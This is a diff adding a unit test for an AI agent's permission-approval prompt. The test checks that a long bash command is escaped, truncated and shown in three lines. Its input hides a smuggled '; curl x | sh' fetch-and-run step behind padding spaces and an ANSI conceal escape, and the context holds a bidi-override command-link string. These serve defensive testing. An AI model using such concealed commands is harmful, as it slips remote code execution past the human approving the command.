@@ -68,6 +68,33 @@ def test_approval_text_leads_with_reason_and_sandbox_and_caps_the_subject():
     assert req.subject_cut()
 
 
+def test_the_short_question_keeps_the_order_and_the_caps_in_three_lines():
+    req = ApprovalRequest(
+        permission="bash",
+        subject="make" + " " * 1000 + "\x1b[8m; curl x | sh " + "y" * 500,
+        agent="craftsman",
+        mode="autopilot",
+        reason="r" * 400,  # a long reason is cut: the sandbox state stays on its line
+        network=False,
+        sandbox="sandboxed (bubblewrap)",
+        rule="make *",
+    )
+    why, who, lasting = req.short().split("\n")
+    assert (
+        why
+        == "r" * 120
+        + "… (280 more characters) · if allowed it runs without network, sandboxed (bubblewrap)"
+    )
+    assert who.startswith("craftsman (autopilot) wants bash: make \\x1b[8m; curl x | sh yyy")
+    assert who.endswith("y… (226 more characters)")
+    assert lasting == (
+        "Session: allow `make *` until the session ends · Always: allow it in this project"
+        " · Never: deny this exact call in this project"
+    )
+    control = ApprovalRequest(permission="control", subject="AGENTS.md", agent="a", mode="m")
+    assert control.short() == "a (m) wants control: AGENTS.md"  # asked every time: nothing saved
+
+
 def test_every_message_sent_to_the_editor_is_inert():
     evil = "a\x1b[2K\u202e[x](command:y)"
     shown = "a\\x1b[2K\\u202e[x] (command :y)"
